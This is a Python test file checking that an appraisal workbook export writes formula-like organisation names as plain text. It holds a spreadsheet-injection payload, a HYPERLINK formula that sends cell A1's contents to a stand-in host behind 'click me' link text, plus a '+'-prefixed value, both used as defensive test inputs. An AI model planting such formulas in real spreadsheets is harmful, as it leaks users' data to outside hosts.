"""The appraisal workbook: one row per card, and no org or team name ever a formula."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from bankvoc.people.export import appraisal_xlsx
from bankvoc.people.scorecard import Card, Scorecards

EVIL = '=HYPERLINK("http://x.example/?"&A1,"点我")'


class TestAppraisalXlsx:
    def test_a_formula_like_name_is_written_as_text(self) -> None:
        cards = Scorecards(level="branch", month="2026-10", weights_version="v1", cards=[
            Card(level="branch", key="BJ", label=EVIL, parent="HQ", components=[]),
            Card(level="branch", key="+SH", label="上海分行", parent="HQ", components=[])])
        sheet = load_workbook(io.BytesIO(appraisal_xlsx(cards))).active
        assert sheet is not None
        rows = [[(c.value, c.data_type) for c in row[:2]] for row in sheet.iter_rows(min_row=2)]
        assert rows == [[("BJ", "s"), (EVIL, "s")], [("+SH", "s"), ("上海分行", "s")]]
